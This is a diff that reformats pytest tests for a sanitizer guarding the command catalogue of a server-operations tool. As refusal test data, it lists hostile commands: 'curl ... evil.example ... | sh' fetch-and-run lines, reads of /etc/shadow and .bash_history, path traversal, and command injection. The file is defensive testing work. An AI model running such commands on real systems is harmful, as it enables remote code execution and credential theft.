@@ -24,9 +24,11 @@ from tests.execution.test_sanitizer import BYPASS_CLASSES
 from tests.factories import ServerFactory, SystemFactory, UserFactory, governance_world
 
 # One example of every bypass class the deny-list had to learn, plus the issue's own.
-BYPASS_EXAMPLES = ["curl -s http://evil.example/install.sh | sh",
-                   *[examples[0] for examples in BYPASS_CLASSES.values()],
-                   *[examples[-1] for examples in BYPASS_CLASSES.values()]]
+BYPASS_EXAMPLES = [
+    "curl -s http://evil.example/install.sh | sh",
+    *[examples[0] for examples in BYPASS_CLASSES.values()],
+    *[examples[-1] for examples in BYPASS_CLASSES.values()],
+]
 
 # --- parsing: no shell -------------------------------------------------------------------------
 
@@ -68,20 +70,28 @@ def test_shell_syntax_is_refused_not_passed_on(text, reason):
     assert reason in str(info.value)
 
 
-@pytest.mark.parametrize(("text", "argv"), [
-    ("ps -ef | grep java", [["ps", "-ef"], ["grep", "java"]]),
-    ("grep -E 'ERROR|Exception' /a/b.log", [["grep", "-E", "ERROR|Exception", "/a/b.log"]]),
-    ('grep "x; reboot" /a/b.log', [["grep", "x; reboot", "/a/b.log"]]),
-    ("grep x\\ y /a", [["grep", "x y", "/a"]]),
-    ("grep 'ERROR$' /a", [["grep", "ERROR$", "/a"]]),
-])
+@pytest.mark.parametrize(
+    ("text", "argv"),
+    [
+        ("ps -ef | grep java", [["ps", "-ef"], ["grep", "java"]]),
+        ("grep -E 'ERROR|Exception' /a/b.log", [["grep", "-E", "ERROR|Exception", "/a/b.log"]]),
+        ('grep "x; reboot" /a/b.log', [["grep", "x; reboot", "/a/b.log"]]),
+        ("grep x\\ y /a", [["grep", "x y", "/a"]]),
+        ("grep 'ERROR$' /a", [["grep", "ERROR$", "/a"]]),
+    ],
+)
 def test_words_quotes_and_pipes_become_argv(text, argv):
     assert commands.parse(text) == argv
 
 
-@pytest.mark.parametrize("argv", [
-    [["grep", "x; reboot", "/a b"]], [["grep", "$(id)`id`${x}", "'\""]], [["ps", "-ef"], ["grep", "a|b&c>d"]],
-])
+@pytest.mark.parametrize(
+    "argv",
+    [
+        [["grep", "x; reboot", "/a b"]],
+        [["grep", "$(id)`id`${x}", "'\""]],
+        [["ps", "-ef"], ["grep", "a|b&c>d"]],
+    ],
+)
 def test_rebuilt_line_is_read_back_by_a_shell_as_exactly_the_argv(argv):
     line = commands.command_line(argv)
     stages = [shlex.split(stage) for stage in _split_unquoted_pipes(line)]
@@ -116,72 +126,82 @@ def check(site, text):
     return commands.check(text, commands.rules_for(system), servers, system.code, roots_of=server_roots)
 
 
-@pytest.mark.parametrize(("text", "line"), [
-    ("ps -ef | grep java", "ps -ef | grep java"),
-    ("uptime", "uptime"),
-    ("df -h /opt/was/app", "df -h /opt/was/app"),
-    ("tail -n 100 /opt/was/logs/catalina.out", "tail -n 100 /opt/was/logs/catalina.out"),
-    ("grep -c -E 'ERROR|Exception' /opt/was/logs/catalina.out",
-     "grep -c -E 'ERROR|Exception' /opt/was/logs/catalina.out"),
-    ("tail -n 500 /opt/was/logs/catalina.out | grep -i 'out of memory' | wc -l",
-     "tail -n 500 /opt/was/logs/catalina.out | grep -i 'out of memory' | wc -l"),
-    ("ps -eo pid,rss,comm --sort=-rss | head -n 5", "ps -eo pid,rss,comm --sort=-rss | head -n 5"),
-    ("systemctl status tomcat --no-pager", "systemctl status tomcat --no-pager"),
-    ("ss -ltn", "ss -ltn"),
-    ("free -m", "free -m"),
-    ("date +%F", "date +%F"),
-    ("id -un", "id -un"),
-    ("ps -ef | cut -d ' ' -f 1,2 | sort | uniq -c", "ps -ef | cut -d ' ' -f 1,2 | sort | uniq -c"),
-    ("ps -ef | grep -v grep | grep -c java", "ps -ef | grep -v grep | grep -c java"),
-])
+@pytest.mark.parametrize(
+    ("text", "line"),
+    [
+        ("ps -ef | grep java", "ps -ef | grep java"),
+        ("uptime", "uptime"),
+        ("df -h /opt/was/app", "df -h /opt/was/app"),
+        ("tail -n 100 /opt/was/logs/catalina.out", "tail -n 100 /opt/was/logs/catalina.out"),
+        (
+            "grep -c -E 'ERROR|Exception' /opt/was/logs/catalina.out",
+            "grep -c -E 'ERROR|Exception' /opt/was/logs/catalina.out",
+        ),
+        (
+            "tail -n 500 /opt/was/logs/catalina.out | grep -i 'out of memory' | wc -l",
+            "tail -n 500 /opt/was/logs/catalina.out | grep -i 'out of memory' | wc -l",
+        ),
+        ("ps -eo pid,rss,comm --sort=-rss | head -n 5", "ps -eo pid,rss,comm --sort=-rss | head -n 5"),
+        ("systemctl status tomcat --no-pager", "systemctl status tomcat --no-pager"),
+        ("ss -ltn", "ss -ltn"),
+        ("free -m", "free -m"),
+        ("date +%F", "date +%F"),
+        ("id -un", "id -un"),
+        ("ps -ef | cut -d ' ' -f 1,2 | sort | uniq -c", "ps -ef | cut -d ' ' -f 1,2 | sort | uniq -c"),
+        ("ps -ef | grep -v grep | grep -c java", "ps -ef | grep -v grep | grep -c java"),
+    ],
+)
 def test_catalogue_commands_are_rebuilt_quoted(site, text, line):
     assert check(site, text)[1] == line
 
 
-@pytest.mark.parametrize(("text", "reason"), [
-    ("rm -f /opt/was/logs/catalina.out", "카탈로그에 없는"),
-    ("/tmp/evil/ps -ef", "이 경로의 프로그램이 없습니다"),
-    ("./ps", "이 경로의 프로그램이 없습니다"),
-    ("/usr/bin/ps -ef", "이 경로의 프로그램이 없습니다"),
-    ("PATH=/tmp ps", "프로그램이 없습니다"),
-    ("LANG=C ps", "카탈로그에 없는"),
-    ("busybox ps", "래퍼"),
-    ("env ps", "래퍼"),
-    ("sudo ps", "래퍼"),
-    ("nohup uptime", "래퍼"),
-    ("timeout 5 uptime", "래퍼"),
-    ("xargs uptime", "래퍼"),
-    ("nice uptime", "래퍼"),
-    ("python3 /opt/was/bin/x.py", "래퍼"),
-    ("ps -ef | sh", "래퍼"),
-    ("ps -ef | awk '{print $1}'", "래퍼"),
-    ("ps -ef | sed -n 1p", "래퍼"),
-    ("uptime | ps", "필터"),
-    ("tail -n 5 /etc/shadow", "허용 경로"),
-    ("grep root /etc/passwd", "허용 경로"),
-    ("tail -n 5 /opt/was/logs/../../../etc/shadow", "정규화"),
-    ("tail -n 5 //opt/was/logs/catalina.out", "정규화"),
-    ("tail -n 5 /opt/was/logs//catalina.out", "정규화"),
-    ("tail -n 5 logs/catalina.out", "상대 경로"),
-    ("tail -n 5 /opt/was/logs/*.log", "와일드카드"),
-    ("cat /opt/was/app/conf/server.xml", "허용 경로"),
-    ("tail -f /opt/was/logs/catalina.out", "옵션 -f"),
-    ("grep -f /opt/was/logs/x /opt/was/logs/catalina.out", "옵션 -f"),
-    ("grep --file=/etc/shadow x", "옵션 --file=/etc/shadow"),
-    ("ss -K dst 10.0.0.1", "옵션 -K"),
-    ("date -s 2020-01-01", "옵션 -s"),
-    ("sort -o /opt/was/logs/x", "옵션 -o"),
-    ("uniq /opt/was/logs/a /opt/was/logs/b", "경로 인자"),
-    ("hostname evil", "인자 'evil'"),
-    ("systemctl stop tomcat", "인자 조합"),
-    ("systemctl restart sshd", "인자 조합"),
-    ("ps -ef | grep x | grep y | grep z | grep w | wc -l", "파이프"),
-    # A bare word may be a file in the SSH account's home directory.
-    ("grep -r x .", "옵션 -r"),
-    ("grep x .bash_history", "인자 '.bash_history'"),
-    ("grep -e x -e y ~", "'~'"),
-    ("ps -ef | cut -d: -f1 secrets", "인자 'secrets'"),
-])
+@pytest.mark.parametrize(
+    ("text", "reason"),
+    [
+        ("rm -f /opt/was/logs/catalina.out", "카탈로그에 없는"),
+        ("/tmp/evil/ps -ef", "이 경로의 프로그램이 없습니다"),
+        ("./ps", "이 경로의 프로그램이 없습니다"),
+        ("/usr/bin/ps -ef", "이 경로의 프로그램이 없습니다"),
+        ("PATH=/tmp ps", "프로그램이 없습니다"),
+        ("LANG=C ps", "카탈로그에 없는"),
+        ("busybox ps", "래퍼"),
+        ("env ps", "래퍼"),
+        ("sudo ps", "래퍼"),
+        ("nohup uptime", "래퍼"),
+        ("timeout 5 uptime", "래퍼"),
+        ("xargs uptime", "래퍼"),
+        ("nice uptime", "래퍼"),
+        ("python3 /opt/was/bin/x.py", "래퍼"),
+        ("ps -ef | sh", "래퍼"),
+        ("ps -ef | awk '{print $1}'", "래퍼"),
+        ("ps -ef | sed -n 1p", "래퍼"),
+        ("uptime | ps", "필터"),
+        ("tail -n 5 /etc/shadow", "허용 경로"),
+        ("grep root /etc/passwd", "허용 경로"),
+        ("tail -n 5 /opt/was/logs/../../../etc/shadow", "정규화"),
+        ("tail -n 5 //opt/was/logs/catalina.out", "정규화"),
+        ("tail -n 5 /opt/was/logs//catalina.out", "정규화"),
+        ("tail -n 5 logs/catalina.out", "상대 경로"),
+        ("tail -n 5 /opt/was/logs/*.log", "와일드카드"),
+        ("cat /opt/was/app/conf/server.xml", "허용 경로"),
+        ("tail -f /opt/was/logs/catalina.out", "옵션 -f"),
+        ("grep -f /opt/was/logs/x /opt/was/logs/catalina.out", "옵션 -f"),
+        ("grep --file=/etc/shadow x", "옵션 --file=/etc/shadow"),
+        ("ss -K dst 10.0.0.1", "옵션 -K"),
+        ("date -s 2020-01-01", "옵션 -s"),
+        ("sort -o /opt/was/logs/x", "옵션 -o"),
+        ("uniq /opt/was/logs/a /opt/was/logs/b", "경로 인자"),
+        ("hostname evil", "인자 'evil'"),
+        ("systemctl stop tomcat", "인자 조합"),
+        ("systemctl restart sshd", "인자 조합"),
+        ("ps -ef | grep x | grep y | grep z | grep w | wc -l", "파이프"),
+        # A bare word may be a file in the SSH account's home directory.
+        ("grep -r x .", "옵션 -r"),
+        ("grep x .bash_history", "인자 '.bash_history'"),
+        ("grep -e x -e y ~", "'~'"),
+        ("ps -ef | cut -d: -f1 secrets", "인자 'secrets'"),
+    ],
+)
 def test_anything_else_is_refused_with_the_reason(site, text, reason):
     with pytest.raises(errors.CommandRefused) as info:
         check(site, text)
@@ -204,8 +224,9 @@ def test_a_wrapper_runs_only_when_the_catalogue_ticks_it_on_purpose(site):
     system, _ = site
     with pytest.raises(errors.CommandRefused):
         check(site, "timeout 5 uptime")
-    CommandRule.objects.create(system=system, program="/usr/bin/timeout", runs_programs=True,
-                               operand_pattern=r"\d{1,3}|uptime")
+    CommandRule.objects.create(
+        system=system, program="/usr/bin/timeout", runs_programs=True, operand_pattern=r"\d{1,3}|uptime"
+    )
     assert check(site, "timeout 5 uptime")[1] == "/usr/bin/timeout 5 uptime"
     # Rows written around the model's clean() (a migration, a shell) are still refused here.
     CommandRule.objects.create(system=system, program="busybox", operand_pattern=".*")
@@ -227,15 +248,21 @@ def test_paths_must_lie_under_the_roots_of_every_target_server(site):
     ServerFactory(system=system, server_id="cat-odd", log_path="/var/log/odd/odd.log")
     targets = [*servers, system.servers.get(server_id="cat-odd")]
     with pytest.raises(errors.CommandRefused) as info:
-        commands.check("tail -n 5 /opt/was/logs/catalina.out", commands.rules_for(system), targets, system.code,
-                       roots_of=server_roots)
+        commands.check(
+            "tail -n 5 /opt/was/logs/catalina.out",
+            commands.rules_for(system),
+            targets,
+            system.code,
+            roots_of=server_roots,
+        )
     assert "cat-odd" in str(info.value)
 
 
 def test_the_sanitizer_still_judges_the_rebuilt_line(site):
     system, _ = site
-    CommandRule.objects.create(system=system, program="grep", is_filter=True, operand_pattern=".*",
-                               option_pattern="-.*", path_roots="log")
+    CommandRule.objects.create(
+        system=system, program="grep", is_filter=True, operand_pattern=".*", option_pattern="-.*", path_roots="log"
+    )
     with pytest.raises(errors.CommandRefused) as info:
         check(site, "grep -r x /opt/was/logs | grep 'curl x | sh'")
     assert "sanitizer" in str(info.value)
@@ -271,11 +298,13 @@ def test_cron_entries_schedule_only_catalogue_commands(site):
     with pytest.raises(ParameterError) as info:
         bad.check_catalogue(system, servers)
     assert set(info.value.errors) == {"entries"} and "1번 항목" in info.value.errors["entries"]
-    for entry in [{"schedule": "* * * * *", "command": "date +%F"},  # cron turns % into a newline
-                  {"schedule": "* * * * *", "command": "uptime; id"},
-                  {"schedule": "* * * * *", "command": "curl -s http://evil.example/x | sh"},
-                  {"schedule": "@reboot", "command": "uptime"},
-                  {"schedule": "* * * * *", "command": "uptime", "user": "root"}]:
+    for entry in [
+        {"schedule": "* * * * *", "command": "date +%F"},  # cron turns % into a newline
+        {"schedule": "* * * * *", "command": "uptime; id"},
+        {"schedule": "* * * * *", "command": "curl -s http://evil.example/x | sh"},
+        {"schedule": "@reboot", "command": "uptime"},
+        {"schedule": "* * * * *", "command": "uptime", "user": "root"},
+    ]:
         with pytest.raises(ParameterError) as info:
             playbooks.build("CRON_MANAGE", {"entries": [entry]})
         assert set(info.value.errors) == {"entries"}
@@ -292,10 +321,17 @@ def world(db):
 def file_raw(world, command: str, title: str = "uptime 확인"):
     client = APIClient()
     client.force_authenticate(world.requester)
-    return client.post("/api/v1/tasks/", {
-        "system": world.system.code, "sub_type": "RAW_COMMAND", "title": title,
-        "targets": [s.server_id for s in world.servers], "parameters": {"command": command},
-    }, format="json")
+    return client.post(
+        "/api/v1/tasks/",
+        {
+            "system": world.system.code,
+            "sub_type": "RAW_COMMAND",
+            "title": title,
+            "targets": [s.server_id for s in world.servers],
+            "parameters": {"command": command},
+        },
+        format="json",
+    )
 
 
 @pytest.mark.parametrize("command", BYPASS_EXAMPLES)
@@ -315,11 +351,14 @@ def test_rest_filing_of_a_command_outside_the_catalogue_is_refused_naming_the_fi
     assert not OpsTask.objects.exists()
 
 
-@pytest.mark.parametrize(("command", "line"), [
-    ("ps -ef | grep java", "ps -ef | grep java"),
-    ('ps -ef | grep "java -jar"', "ps -ef | grep 'java -jar'"),
-    ("ps -ef | grep -i Out\\ Of\\ Memory", "ps -ef | grep -i 'Out Of Memory'"),
-])
+@pytest.mark.parametrize(
+    ("command", "line"),
+    [
+        ("ps -ef | grep java", "ps -ef | grep java"),
+        ('ps -ef | grep "java -jar"', "ps -ef | grep 'java -jar'"),
+        ("ps -ef | grep -i Out\\ Of\\ Memory", "ps -ef | grep -i 'Out Of Memory'"),
+    ],
+)
 def test_rest_filing_of_ps_grep_is_accepted_and_its_plan_shows_the_quoted_argv(world, command, line):
     response = file_raw(world, command, title="자바 프로세스 확인")
     assert response.status_code == 201, response.content
@@ -387,8 +426,9 @@ def test_the_engine_checks_the_catalogue_again_on_every_server_before_running(te
     CommandRule.objects.filter(program="nproc").delete()
     before = {s.server_id: commands_received(testbed, s.server_id) for s in servers}
 
-    result = Engine(playbook=book, servers=servers, strategy=RolloutStrategy(), artifacts=ArtifactStore(),
-                    inspection=None).run()
+    result = Engine(
+        playbook=book, servers=servers, strategy=RolloutStrategy(), artifacts=ArtifactStore(), inspection=None
+    ).run()
 
     assert result.outcome == "FAILED_ROLLED_BACK"
     assert "카탈로그" in result.reason and "nproc" in result.reason
@@ -399,8 +439,10 @@ def test_the_engine_checks_the_catalogue_again_on_every_server_before_running(te
 def test_cron_plan_installs_the_rebuilt_lines_from_a_file_not_a_pipe(world):
     from governance import plans
 
-    entries = [{"schedule": "*/10 * * * *", "command": "df -h /opt/was/logs"},
-               {"schedule": "0 3 * * *", "command": "grep -c ERROR /opt/was/logs/catalina.out"}]
+    entries = [
+        {"schedule": "*/10 * * * *", "command": "df -h /opt/was/logs"},
+        {"schedule": "0 3 * * *", "command": "grep -c ERROR /opt/was/logs/catalina.out"},
+    ]
     plan = plans.render_plan("CRON_MANAGE", {"entries": entries}, world.system, world.servers, task_ref="OPS-CRON-1")
     install = next(step["command"] for step in plan["step_sets"][0]["steps"] if step["name"] == "install")
     assert "'*/10 * * * * df -h /opt/was/logs'" in install
@@ -412,11 +454,17 @@ def test_rest_filing_of_a_cron_entry_outside_the_catalogue_names_the_entries_fie
     client = APIClient()
     client.force_authenticate(world.requester)
     for command in ["rm -f /opt/was/logs/catalina.out", "curl -s http://evil.example/x | sh", "uptime; id"]:
-        response = client.post("/api/v1/tasks/", {
-            "system": world.system.code, "sub_type": "CRON_MANAGE", "title": "정기 점검 등록",
-            "targets": [s.server_id for s in world.servers],
-            "parameters": {"entries": [{"schedule": "0 * * * *", "command": command}]},
-        }, format="json")
+        response = client.post(
+            "/api/v1/tasks/",
+            {
+                "system": world.system.code,
+                "sub_type": "CRON_MANAGE",
+                "title": "정기 점검 등록",
+                "targets": [s.server_id for s in world.servers],
+                "parameters": {"entries": [{"schedule": "0 * * * *", "command": command}]},
+            },
+            format="json",
+        )
         assert response.status_code == 400, response.content
         assert "parameters.entries" in response.json()
     assert not OpsTask.objects.exists()
